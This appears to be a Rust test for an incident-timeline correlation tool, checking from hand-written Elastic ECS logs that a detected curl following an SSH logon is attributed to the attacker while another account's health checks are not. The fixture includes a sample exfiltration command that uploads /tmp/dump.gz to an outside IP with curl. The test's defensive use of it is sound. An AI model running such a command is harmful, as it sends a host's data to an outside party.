//! Correlation behaviours on small hand-written exports (ECS NDJSON as Elastic writes it):
//! what a finding about a host makes the attacker's, and what it does not.

use serde_json::Value;

use crate::util::*;

fn ecs_process(ts: &str, host: &str, user: &str, exe: &str, args: &str) -> String {
    format!(
        "{{\"@timestamp\":\"{ts}\",\"event\":{{\"kind\":\"event\",\"category\":[\"process\"],\"type\":[\"start\"],\"action\":\"exec\"}},\"host\":{{\"name\":\"{host}\"}},\"user\":{{\"name\":\"{user}\"}},\"process\":{{\"name\":\"{exe}\",\"executable\":\"/usr/bin/{exe}\",\"command_line\":\"{exe} {args}\"}}}}\n"
    )
}

/// The process a finding detects is the attacker's, and the remote logon of its account
/// before it is their session; the same program run by another account on that host (the
/// application's own `curl` health checks) is not.
#[test]
fn the_detected_process_is_the_attackers_not_the_same_program_of_another_account() {
    let dir = TestDir::new("detected-process");
    let mut log = String::new();
    // The application account's routine curl calls all morning.
    for m in 0..50 {
        log += &ecs_process(
            &format!("2026-03-02T08:{:02}:{:02}.000Z", m, (m * 7) % 60),
            "db-01",
            "app",
            "curl",
            "-s http://localhost:8080/health",
        );
    }
    // deploy signs in over SSH from the jump host, then runs curl to an outside address.
    log += "{\"@timestamp\":\"2026-03-02T09:20:00.000Z\",\"event\":{\"kind\":\"event\",\"category\":[\"authentication\"],\"type\":[\"start\"],\"action\":\"ssh_login\",\"outcome\":\"success\"},\"host\":{\"name\":\"db-01\"},\"user\":{\"name\":\"deploy\"},\"source\":{\"ip\":\"10.0.1.10\"}}\n";
    log += &ecs_process(
        "2026-03-02T09:24:10.000Z",
        "db-01",
        "deploy",
        "curl",
        "-T /tmp/dump.gz https://198.51.100.9/u",
    );
    log += "{\"@timestamp\":\"2026-03-02T09:25:00.000Z\",\"event\":{\"kind\":\"signal\"},\"kibana.alert.rule.name\":\"Potential Data Exfiltration via Curl\",\"kibana.alert.severity\":\"high\",\"host\":{\"name\":\"db-01\"},\"user\":{\"name\":\"deploy\"},\"process\":{\"name\":\"curl\"}}\n";
    let path = dir.write("db-01.ndjson", log);
    let doc = timeline([path.to_str().unwrap()]);
    let inc = &doc["incidents"][0];
    assert_eq!(
        inc["phases"]["compromise"]["start"], "2026-03-02T09:20:00.000000Z",
        "the session the detected curl ran in"
    );
    let marked: Vec<(&str, &str)> = inc["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["phase"] == "compromise")
        .map(|e| (e["ts"].as_str().unwrap(), e["user"].as_str().unwrap_or("")))
        .collect();
    assert_eq!(
        marked,
        [
            ("2026-03-02T09:20:00.000000Z", "deploy"),
            ("2026-03-02T09:24:10.000000Z", "deploy")
        ]
    );
    assert_eq!(inc["scope"]["users"], serde_json::json!(["deploy"]));
    // The path starts at that logon, then the detected curl, then the finding.
    let by_id = |id: &Value| {
        inc["timeline"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| &e["id"] == id)
            .unwrap()
    };
    let hops: Vec<&str> = inc["attack_path"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| by_id(&h["event"])["ts"].as_str().unwrap())
        .collect();
    assert_eq!(
        hops,
        [
            "2026-03-02T09:20:00.000000Z",
            "2026-03-02T09:24:10.000000Z",
            "2026-03-02T09:25:00.000000Z"
        ]
    );
}
